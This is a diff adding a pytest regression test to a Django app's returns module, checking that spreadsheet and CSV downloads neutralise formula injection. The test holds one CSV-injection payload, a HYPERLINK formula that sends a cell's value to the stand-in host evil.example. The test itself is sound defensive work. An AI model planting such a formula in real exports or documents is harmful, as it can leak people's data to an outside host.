@@ -1,6 +1,8 @@
 """The returns pages: SEN managers only, GOV.UK pages, validation report with links to
 the cases, downloads of person-level data each writing an audit row."""
 
+import csv
+import dataclasses
 import datetime as dt
 import io
 
@@ -13,6 +15,7 @@ from procrastinate.contrib.django import app
 
 from opensend.core.models import AuditAction, AuditEvent
 from opensend.measures import tasks
+from opensend.measures.returns.inspection import exports
 from opensend.measures.returns.sen2 import jobs
 from opensend.measures.returns.sen2.models import Sen2Run
 from opensend.people.models import Role
@@ -129,6 +132,33 @@ def test_inspection_page_and_downloads(area: Sen2Area, manager):
     exports = [row.detail["export"] for row in rows]
     assert exports == ["inspection lists 1 and 2", "inspection list 2"]
     assert rows[1].detail["children"] == [area.refused.child_id]
+
+
+FINDING_1 = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+def test_text_like_a_formula_comes_out_as_text_in_both_downloads(
+    area: Sen2Area, manager, monkeypatch
+):
+    """Issue 13, finding 1 (ASVS 1.2.10): a child recorded under this name came out of
+    the .xlsx as a live formula, and the CSV carried it unchanged. The Annex A lists no
+    longer carry names (issue 10), so the payload is put in a text column (ULN) of the
+    rows the download collects: view, export, writer and file are all the real ones."""
+    real = exports._ROWS[1]
+
+    def with_payload(children, on):
+        return [dataclasses.replace(row, uln=FINDING_1) for row in real(children, on)]
+
+    monkeypatch.setitem(exports._ROWS, 1, with_payload)
+    url = reverse("returns:inspection_download")
+    book = load_workbook(io.BytesIO(manager.get(url, {"format": "xlsx"}).content))
+    cells = [row[2] for row in book["List_1"].iter_rows(min_row=2)]  # ULN
+    assert cells and all((c.value, c.data_type) == (FINDING_1, "s") for c in cells)
+    text = manager.get(url, {"list": "1", "format": "csv"}).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0][2] == "ULN" and len(rows) == len(cells) + 1
+    # Quoted with an apostrophe: a spreadsheet shows the text and never runs it.
+    assert {row[2] for row in rows[1:]} == {f"'{FINDING_1}"}
 
 
 @pytest.mark.parametrize("role", [Role.CASEWORKER, Role.ANALYST, Role.PANEL_MEMBER])
